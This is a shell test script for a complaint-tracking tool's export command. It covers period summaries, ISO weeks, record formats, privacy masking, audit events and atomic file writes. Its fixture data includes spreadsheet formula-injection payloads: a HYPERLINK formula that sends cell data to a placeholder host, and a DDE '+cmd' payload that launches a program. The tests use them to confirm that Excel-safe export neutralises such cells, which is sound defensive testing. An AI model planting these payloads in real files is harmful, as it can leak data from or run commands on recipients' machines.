#!/bin/sh
# aduan-export: period summaries, record exports, privacy, atomic -o.
. "${0%/*}/lib.sh"

run aduan-export --summary --db "$T/missing.db"
is "$rc" 74 "a missing database fails with 74"
[ ! -e "$T/missing.db" ]
ok $? "and is not created"

preset

# ---- a hand-built week: 2024-W48, Monday 2024-11-25 .. Sunday 2024-12-01 WITA ----
cat >w.csv <<'X'
received_at,kelurahan,category,body
2024-11-20T10:00,Lok Tuan,jalan,satu: routed the week before and overdue in W48
2024-11-25T08:00,Lok Tuan,jalan,dua: routed after 2 h and closed after 48 h
2024-11-26T09:00,Api-Api,sampah,tiga: a note after 4 h then routed
2024-11-28T00:30,Api-Api,sampah,empat: nothing done
2024-11-30T20:00,Guntung,drainase,lima: closed after 6 h
2024-12-01T23:59,Guntung,drainase,enam: the last minute of the week
2024-12-02T00:00,Gunung Elai,jalan,tujuh: the first minute of the next week
2024-11-24T23:59,Lok Tuan,jalan,delapan: the last minute of the week before
2024-11-10T10:00,Bontang Kuala,jalan,sembilan: closed long before
X
aduan-add -q --from csv w.csv >/dev/null 2>&1
is "$(count)" 9 "nine complaints for the hand-built week"
# A history at past times, which no program writes, is made with SQL here and below.
sql "insert into invocation(at, actor, command) values ('2024-11-20T00:00:00Z', 'tester', 'test')"
ev() {	# ev ID UTC-TIME ACTION
	sql "insert into event(complaint, at, actor, action, invocation)
	    values ($1, '$2', 'tester', '$3', (select max(id) from invocation))"
}
ev 1 2024-11-20T04:00:00Z route
ev 2 2024-11-25T02:00:00Z route
ev 2 2024-11-27T00:00:00Z close
ev 3 2024-11-26T05:00:00Z note
ev 3 2024-11-27T01:00:00Z route
ev 5 2024-11-30T18:00:00Z close
ev 9 2024-11-15T02:00:00Z close
# due dates by hand: only 1 (past due in W48) and 3 (due after it) have one
sql "update complaint set due_at=NULL;
update complaint set status='routed', agency='PUPR', due_at='2024-11-26T16:00:00Z' where id=1;
update complaint set status='closed', agency='PUPR', closed_at='2024-11-27T00:00:00Z', resolution='resolved' where id=2;
update complaint set status='routed', agency='DLH', due_at='2024-12-04T16:00:00Z' where id=3;
update complaint set status='closed', closed_at='2024-11-30T18:00:00Z', resolution='resolved' where id=5;
update complaint set status='closed', closed_at='2024-11-15T02:00:00Z', resolution='withdrawn' where id=9"

H='period_start,period_end,received,routed,closed,open_end,overdue_end,first_action_median_h,first_action_p90_h,closure_median_h,closure_p90_h,closed_on_time,not_complaint'
run aduan-export --summary --week 2024-W48
is "$rc" 0 "--summary exits 0"
is "$(tr -d '\r' <out)" "$H
2024-11-25 00:00,2024-12-02 00:00,5,2,2,5,1,4.0,5.6,27.0,43.8,2,0" \
	"W48 totals: received, routed, closed, open and overdue at the end, median and p90 hours"
is "$(aduan-export --summary --week 2024-W48 --by kelurahan | tr -d '\r' | cut -d, -f3-)" \
"kelurahan,received,routed,closed,open_end,overdue_end,first_action_median_h,first_action_p90_h,closure_median_h,closure_p90_h,closed_on_time,not_complaint
Api-Api,2,1,0,2,0,4.0,4.0,,,0,0
Guntung,2,0,1,1,0,6.0,6.0,6.0,6.0,1,0
Lok Tuan,1,1,1,2,1,2.0,2.0,48.0,48.0,1,0
(total),5,2,2,5,1,4.0,5.6,27.0,43.8,2,0" \
	"--by kelurahan: one row per group with activity, then the total"
is "$(aduan-export --summary --week 2024-W48 --by kelurahan,status | tr -d '\r' | cut -d, -f3-5)" \
"kelurahan,status,received
Api-Api,open,1
Api-Api,routed,1
Guntung,closed,1
Guntung,open,1
Lok Tuan,closed,1
Lok Tuan,open,0
Lok Tuan,routed,0
(total),(total),5" "--by two keys"
is "$(aduan-export --summary --week 2024-W48 --by agency | tr -d '\r' | cut -d, -f3-4 | tail -n 2)" \
"(none),3
(total),5" "a complaint without a value is grouped under (none), before the total"
is "$(aduan-export --summary --since 2024-11-25 --until 2024-12-01 | tr -d '\r' | sed -n 2p)" \
"2024-11-25 00:00,2024-12-02 00:00,5,2,2,5,1,4.0,5.6,27.0,43.8,2,0" "--since/--until name the same period"
is "$(aduan-export --summary --week 2024-W48 --kelurahan api2 | tr -d '\r' | sed -n 2p | cut -d, -f3-)" \
"2,1,0,2,0,4.0,4.0,,,0,0" "the list filters narrow a summary"
is "$(aduan-export --summary --week 2024-W47 | tr -d '\r' | sed -n 2p | cut -d, -f3-)" \
"2,1,0,2,0,2.0,2.0,,,0,0" "the week before: the late Sunday complaint is received and open at its end"

# medians and p90 over ten durations: 1..10 hours (2024-W45, closed that week)
: >m.csv
echo 'received_at,kelurahan,category,body' >m.csv
for h in 1 2 3 4 5 6 7 8 9 10; do
	echo "2024-11-05T08:00,Bontang Baru,air,durasi $h jam" >>m.csv
done
aduan-add -q --from csv m.csv >/dev/null 2>&1
sql "insert into event(complaint, at, actor, action, invocation)
    select id, strftime('%Y-%m-%dT%H:%M:%SZ', received_at, '+' || (id - 9) || ' hours'),
    'tester', 'close', (select max(id) from invocation) from complaint where id > 9;
update complaint set status='closed', resolution='resolved',
    closed_at=strftime('%Y-%m-%dT%H:%M:%SZ', received_at, '+' || (2 * (id - 9)) || ' hours') where id > 9"
is "$(aduan-export --summary --week 2024-W45 | tr -d '\r' | sed -n 2p | cut -d, -f3-)" \
	"11,0,10,1,0,5.5,9.1,11.0,18.2,10,0" "even count: the median between the middle two; p90 interpolated"
is "$(aduan-export --summary --week 2024-W45 --by kelurahan | tr -d '\r' | sed -n 2p | cut -d, -f3-)" \
	"Bontang Baru,10,0,10,0,0,5.5,9.1,11.0,18.2,10,0" "the same in a group of ten: its median and p90 over the whole group"
aduan-export --summary --week 2024-W45 --semicolon >sc.csv
like sc.csv '^period_start;period_end;received;routed;closed;' "--semicolon: semicolons between cells"
like sc.csv '^2024-11-04 00:00;2024-11-11 00:00;11;0;10;1;0;5,5;9,1;11,0;18,2;10' "and decimal commas"

run aduan-export --summary --week 2024-W10
is "$(tr -d '\r' <out)" "$H
2024-03-04 00:00,2024-03-11 00:00,0,0,0,0,0,,,,,0,0" "an empty week: the header and a row of zeros"
is "$(aduan-export --summary --week 2024-W10 --by kelurahan,category | tr -d '\r' | tail -n 1)" \
	"2024-03-04 00:00,2024-03-11 00:00,(total),(total),0,0,0,0,0,,,,,0,0" "an empty week by groups: the total row"

# weeks across the year boundary
cat >y.csv <<'X'
received_at,kelurahan,body
2023-12-31T23:30,Guntung,Sunday: 2023-W52
2024-01-07T23:00,Guntung,Sunday: 2024-W01
2021-01-02T10:00,Guntung,Saturday: 2020-W53
X
aduan-add -q --from csv y.csv >/dev/null 2>&1
is "$(aduan-export --summary --week 2024-W01 | tr -d '\r' | sed -n 2p | cut -d, -f1-3)" \
	"2024-01-01 00:00,2024-01-08 00:00,1" "2024-W01 starts on 1 January 2024"
is "$(aduan-export --summary --week 2023-W52 | tr -d '\r' | sed -n 2p | cut -d, -f1-3)" \
	"2023-12-25 00:00,2024-01-01 00:00,1" "2023-W52 ends with the last day of 2023"
is "$(aduan-export --summary --week 2020-W53 | tr -d '\r' | sed -n 2p | cut -d, -f1-3)" \
	"2020-12-28 00:00,2021-01-04 00:00,1" "2020-W53 runs into January 2021"
is "$(aduan-export --summary --week 2026-W53 | tr -d '\r' | sed -n 2p | cut -d, -f1-2)" \
	"2026-12-28 00:00,2027-01-04 00:00" "2026-W53 starts on 28 December 2026"
is "$(aduan-export --summary --week 2025-W01 | tr -d '\r' | sed -n 2p | cut -d, -f1-2)" \
	"2024-12-30 00:00,2025-01-06 00:00" "2025-W01 starts in December 2024"
aduan-export --summary --week this | tr -d '\r' | sed -n 2p | cut -d, -f1-2 >this.txt
s=$(cut -d, -f1 this.txt) e=$(cut -d, -f2 this.txt)
is "$(date -d "$s" +%u%H%M),$(date -d "$e" +%u%H%M),$(($(date -d "$e" +%s) - $(date -d "$s" +%s)))" \
	"10000,10000,604800" "--week this: Monday 00:00 to Monday 00:00"
now=$(date +%s)
[ "$(date -d "$s" +%s)" -le "$now" ] && [ "$now" -lt "$(date -d "$e" +%s)" ]
ok $? "and now lies inside it"
is "$(aduan-export --summary --week last | tr -d '\r' | sed -n 2p | cut -d, -f2)" "$s" \
	"--week last ends where this week starts"
is "$(aduan-export --summary | tr -d '\r' | sed -n 2p | cut -d, -f1)" "$s" "the default period is this week"

# --sql prints what runs, and the sqlite3 shell gives the same figures (its subject is SQL)
aduan-export --summary --week 2024-W48 --by kelurahan --sql >q.sql
is "$(sqlite3 -csv "$ADUAN_DB" <q.sql | tr -d '\r"')" \
	"$(aduan-export --summary --week 2024-W48 --by kelurahan | tr -d '\r' | sed 1d)" \
	"--sql: the sqlite3 shell computes the same summary"

# ---- record exports: quoting, --excel, privacy -----------------------------------
rm -f "$ADUAN_DB"
preset
cat >p.csv <<'X'
received_at,channel,reporter_name,reporter_phone,anonymous,kelurahan,rt,category,body,confidential,source_key
2024-11-25T08:00,whatsapp,Hasrul Baso,0812-3456-7890,0,Api-Api,5,jalan,"Jalan rusak, ""parah"" sekali
tolong",0,wa:grp|x|Hasrul Baso|2
2024-11-25T09:00,phone,"Hj. Sitti Hasnah",0813-0000-0103,1,Lok Tuan,8,sampah,Rahasia: sampah di rumah tetangga,0,
2024-11-25T10:00,walk-in,Wahyu,0813-0000-0104,0,Guntung,3,=1+1,"=HYPERLINK(""http://x.example/?""&A1)",1,wa:grp|x|Wahyu|1
2024-11-25T11:00,sms,Ani,,0,Guntung,12,@SUM(1),+cmd|' /C calc'!A0,0,
X
aduan-add -q --from csv p.csv >/dev/null 2>&1

run aduan-export --format csv
is "$rc" 0 "a record export exits 0"
is "$(head -n 1 out | tr -d '\r')" "$(aduan-list --format csv 1 | head -n 1 | tr -d '\r')" \
	"CSV: a header with the field names of aduan-list"
cp out full.csv
# columns: 1 id, 3 source_key, 8 reporter_name, 9 reporter_phone, 18 body
is "$(aduan-export --format tsv | awk -F'\t' 'NR > 1 { print $1 "|" $3 "|" $8 "|" $9 "|" $18 }')" \
"1||H.B.|+**********890|Jalan rusak, \"parah\" sekali\\ntolong
2||||(withheld)
3||||(withheld)
4||A.||+cmd|' /C calc'!A0" \
	"masked: initials, +**********890, no source_key; anonymous and confidential rows show neither identity nor text"
# The uid is random hex and may hold any four digits: it is left out of the search.
aduan-export --format jsonl 2 | sed 's/"uid":"[0-9a-f-]*"//' >anon.jsonl
unlike anon.jsonl 'Sitti|0103|Rahasia' "no trace of an anonymous reporter or text in JSON Lines"
is "$(aduan-export --format open311 2 3 | grep -c 'Rahasia\|HYPERLINK')" 0 "nor in open311"
unlike full.csv 'Baso|3456.?7890|Wahyu|Sitti' "no name, phone or WhatsApp author in a default export"
is "$(allevents | grep -c '	export ')" 0 "a default export writes no history"

# CSV quoting (RFC 4180): commas, quotes and newlines inside quotes, CRLF
aduan-export --format csv --personal 1 >q.csv
like q.csv '^1,[0-9a-f-]{36},wa:grp\|x\|Hasrul Baso\|2,2024-11-25T00:00:00Z,' "--personal keeps the source_key"
like q.csv ',Hasrul Baso,\+6281234567890,0,0,Api-Api,005,' "and the name and phone"
like q.csv ',"Jalan rusak, ""parah"" sekali$' "a cell with commas and quotes is quoted, quotes doubled"
is "$(grep -c "$(printf '\r')\$" q.csv) $(wc -l <q.csv | tr -d ' ')" "2 3" \
	"rows end in CRLF; the newline inside the cell is kept as it is"

# --excel: BOM, formula cells neutralised, RT and phones kept text
aduan-export --format csv --excel --personal 3 4 >x.csv
is "$(head -c 3 x.csv | od -An -tx1 | tr -d ' ')" "efbbbf" "--excel starts with a UTF-8 BOM"
like x.csv ",\"'=1\\+1\"," "a formula category gets an apostrophe"
like x.csv ",\"'=HYPERLINK\\(\"\"http" "a formula body too (quoted)"
like x.csv ",\"'\\+cmd\\|' /C calc'!A0\"" "a + cell too"
like x.csv ",\"'@SUM\\(1\\)\"," "an @ cell too"
like x.csv ",\"'003\"," "RT 003 keeps its zeros"
like x.csv ",\"'\\+6281300000104\"," "a phone number stays text"
unlike x.csv ',[=+@-]' "no cell starts with a formula character"
is "$(aduan-list --format jsonl -f received_at 3)" '{"received_at":"2024-11-25T02:00:00Z"}' \
	"(complaint 3 was received at 10:00 WITA)"
like x.csv '^3,[^,]*,[^,]*,2024-11-25 10:00:00,' "--excel writes times in local time, without Z"
unlike x.csv '[0-9]Z,' "no UTC stamp is left"
aduan-export --format csv --personal 3 4 >nx.csv
like nx.csv ',=1\+1,' "without --excel the cells are as stored"
aduan-export --summary --week 2024-W48 --by category --excel >xs.csv
like xs.csv ",\"'=1\\+1\"," "--excel neutralises a summary's group names"
like xs.csv ',\(total\),4,0,0,4,0,,,,' "and keeps its numbers numbers"

# ---- --personal: full data, and an export event per complaint in one transaction ----
allevents >before
aduan undo --list >inv.before
aduan-export --format jsonl --personal --kelurahan Guntung >g.jsonl
is "$(wc -l <g.jsonl | tr -d ' ')" 2 "--personal --kelurahan Guntung: two records"
like g.jsonl '"reporter_name":"Wahyu"' "--personal shows names"
like g.jsonl '"body":"=HYPERLINK' "and confidential text"
allevents | grep -vxF -f before >new
is "$(grep '	export ' new | cut -f 1 | paste -s -d ,)" "3,4" \
	"an export event for each exported complaint"
is "$(aduan undo --list | grep -vxF -f inv.before | cut -f 4)" "export 2" "all in one invocation"
is "$(cut -f 2- new | sort -u)" \
	'export  tester  "personal data exported: jsonl to stdout, 2 rows; filter: --kelurahan Guntung"' \
	"the event names the actor, format, destination, row count and filter"
allevents >before
aduan-export --personal >/dev/full 2>err
is "$?" 74 "a --personal export that cannot be written fails with 74"
is "$(allevents | grep -cvxF -f before)" 0 "and records nothing"

# ---- JSON Lines round trip: export --personal | aduan-add --from jsonl ----------
rm -f "$ADUAN_DB"
preset
aduan-add -q --from csv "$ADUAN_BUILD/data/sample-complaints.csv" >/dev/null 2>&1
printf '%s\n' '{"source_key":"wa:RT 05|2024-11-18T07:42|Hasrul|ab","received_at":"2024-11-18T07:42","body":"ada source_key"}' |
	aduan-add -q --from jsonl >/dev/null 2>&1
{ aduan-route --to PUPR 1 4 && aduan-route --to DLH 5 && aduan-close 5 && aduan-close --duplicate-of 5 6 &&
	aduan-edit --lat 0.1325 --lon 117.4791 --confidential yes 7; } >/dev/null 2>&1
ok $? "(routed, closed, a duplicate, a place and a source_key to carry over)"
aduan-list --format jsonl >a.txt
ADUAN_DB="$T/b.db" aduan init --preset bontang-utara >/dev/null 2>&1
aduan-export --format jsonl --personal >rt.jsonl
ADUAN_DB="$T/b.db" aduan-add -q --from jsonl rt.jsonl >added 2>err
is "$?" 0 "aduan-add --from jsonl takes the export"
is "$(wc -l <added | tr -d ' ')" "$(count)" "every complaint is added"
ADUAN_DB="$T/b.db" aduan-list --format jsonl >b.txt
cmp -s a.txt b.txt
ok $? "the copy has the same ids, uids, times, status, agency, resolution and text"
[ -s a.txt ] && diff a.txt b.txt | head -n 5 | sed 's/^/#   /'
aduan-export --format jsonl --personal | ADUAN_DB="$T/b.db" aduan-add -q --from jsonl >again 2>&1
is "$(cat again)" "" "a second import adds nothing"
is "$(count --db "$T/b.db")" "$(count)" \
	"the copy has no duplicates"

# ---- open311 ------------------------------------------------------------------------
is "$(get 1 due_at)" 2024-12-02T15:59:59Z "(complaint 1 is due at 23:59 WITA on 2 December)"
run aduan-export --format open311 1 5 7
is "$rc" 0 "--format open311"
is "$(head -c 1 out)$(tail -n 1 out)" "[]" "a JSON array"
is "$(grep -c '^{"service_request_id"' out)" 3 "one service request per complaint"
like out '^\{"service_request_id":"1","status":"open","status_notes":"forwarded to Dinas Pekerjaan Umum dan Penataan Ruang Kota Bontang","service_name":"jalan","service_code":"jalan","description":"Assalamualaikum pak, jalan di Gang Atletik' \
	"id, status, notes, service name and code, description"
like out '"agency_responsible":"Dinas Pekerjaan Umum dan Penataan Ruang Kota Bontang","requested_datetime":"2024-11-18T07:42:00\+08:00","updated_datetime":"[0-9T:-]+\+08:00","expected_datetime":"2024-12-02T23:59:59\+08:00","address":"Gang Atletik 16, RT 005, Api-Api","lat":null,"long":null\}' \
	"agency, times with the +08:00 offset, address, no position"
like out '"service_request_id":"5","status":"closed","status_notes":"resolved"' "closed with its resolution"
like out '"service_request_id":"7","status":"open","status_notes":null,"service_name":"other","service_code":"other","description":"\(withheld\)".*"address":null,"lat":null,"long":null\}' \
	"a confidential request hides its text, category and place"
aduan-export --format open311 --personal 7 >p311.json 2>/dev/null
like p311.json '"service_request_id":"7".*"lat":0.1325,"long":117.4791\}' "with --personal, lat and long are numbers"
if command -v python3 >/dev/null 2>&1; then
	python3 -c 'import json,sys; d=json.load(sys.stdin); assert len(d) == 3' <out
	ok $? "python parses it as JSON"
else
	skip "no python3 to parse JSON"
fi
is "$(aduan-export --format open311 --status nope 2>/dev/null; echo $?)" 2 "bad filter: usage error"
run aduan-export --format open311 99
is "$rc$(cat out)" "1[]" "nothing matched: an empty array and exit 1"

# ---- -o: a temporary file beside FILE, renamed at the end ---------------------------
mkdir rep
echo old >rep/laporan.csv
aduan-export --summary --week 2024-W47 -o rep/laporan.csv
is "$?" 0 "-o FILE"
like rep/laporan.csv '^period_start,' "FILE has the report"
is "$(ls -A rep)" "laporan.csv" "and no temporary file is left"
echo old >rep/laporan.csv
# a file size limit makes the write fail half way (as root too); the
# database only reads until the end, and stderr goes to a pipe
aduan-edit --body "$(head -c 40000 /dev/zero | tr '\0' x)" $(seq 1 20) >/dev/null 2>&1
{ (ulimit -f 256; trap '' XFSZ; exec aduan-export --format csv --personal -o rep/laporan.csv) 2>&1
  echo "rc=$?"; } | cat >err
like err '^rc=74$' "a write that fails exits 74"
like err '^aduan-export: cannot write rep/laporan.csv' "saying which file"
is "$(cat rep/laporan.csv)" "old" "the old FILE is untouched"
is "$(ls -A rep)" "laporan.csv" "the temporary file is removed"
is "$(allevents | grep -c '	export .* to rep/laporan.csv,')" 0 \
	"a failed --personal export records nothing"
if [ "$(id -u)" -ne 0 ]; then
	mkdir ro && echo old >ro/laporan.csv && chmod 555 ro
	run aduan-export --summary -o ro/laporan.csv
	is "$rc" 74 "-o into a read-only folder exits 74"
	is "$(cat ro/laporan.csv)" "old" "leaving the old file"
	chmod 755 ro
else
	skip "root writes into read-only folders"
	skip "root writes into read-only folders"
fi
run aduan-export --summary -o nosuchdir/x.csv
is "$rc" 74 "-o into a missing folder exits 74"
aduan-export --format csv --personal -o rep/p.csv
is "$(stat -c %a rep/p.csv)" 600 "a new --personal file is owner-only"

# ---- with the real programs: forwarded, noted and closed this week ------------------
if [ -x "$ADUAN_BUILD/aduan-route" ] && [ -x "$ADUAN_BUILD/aduan-close" ]; then
	rm -f "$ADUAN_DB"
	preset
	a=$(aduan-add -k guntung "Lampu jalan mati" 2>/dev/null)
	b=$(aduan-add -k guntung "Got mampet di Gang Mawar" 2>/dev/null)
	c=$(aduan-add -k api2 "Sampah belum diangkut" 2>/dev/null)
	aduan-route --to PUPR "$a" >/dev/null 2>&1 && aduan-route --note "dicek ke lapangan" "$b" >/dev/null 2>&1 &&
	    aduan-close "$b" >/dev/null 2>&1
	ok $? "aduan-route and aduan-close record a week's work"
	is "$(aduan-export --summary --week this --by kelurahan | tr -d '\r' | cut -d, -f3-8)" \
"kelurahan,received,routed,closed,open_end,overdue_end
Api-Api,1,0,0,1,0
Guntung,2,1,1,1,0
(total),3,1,1,2,0" "the summary counts what aduan-route and aduan-close did"
else
	skip "aduan-route or aduan-close is not built"
	skip "aduan-route or aduan-close is not built"
fi

done_testing
